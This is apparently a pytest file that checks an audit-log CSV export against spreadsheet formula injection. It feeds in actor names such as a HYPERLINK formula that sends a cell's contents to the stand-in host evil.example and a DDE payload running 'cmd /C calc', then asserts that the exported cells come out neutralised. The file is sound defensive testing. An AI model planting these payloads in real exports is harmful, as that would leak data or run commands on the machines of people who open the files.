"""A user puts a formula where an auditor's spreadsheet would run it: in CSV it is text."""

from __future__ import annotations

import csv
import io

import pytest

from nbkeep.audit import events, journal, spreadsheet
from nbkeep.audit.export import export
from nbkeep.model.actor import OPERATOR, Actor
from nbkeep.model.clock import ManualClock
from nbkeep.store.database import Store

pytestmark = pytest.mark.attack
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "  =1+1", "\uff1d1+1", "\uff201",
]  # fmt: skip


DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def test_names_that_are_formulas(sqlite_store: Store, clock: ManualClock) -> None:
    with sqlite_store.write() as tx:
        for formula in FORMULAS:
            actor = Actor(formula, formula, frozenset(), address=formula)
            journal.append(tx, clock, actor, events.FlavorDeleted(flavor=formula))
    text = "\n".join(export(sqlite_store, clock, OPERATOR, form="csv"))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["actor"] for row in rows[:-1]] == [f"'{formula}" for formula in FORMULAS]
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.lstrip(" ").startswith(DANGEROUS)] == []


@pytest.mark.parametrize("formula", FORMULAS)
def test_separators_and_quotes_open_no_second_cell(formula: str) -> None:
    hidden = f'x"\r\n{formula}\r\n",;\t{formula}'
    line = spreadsheet.line([hidden, "end"])
    assert line.count('"') == hidden.count('"') * 2 + 4
    assert line.startswith('"x""')
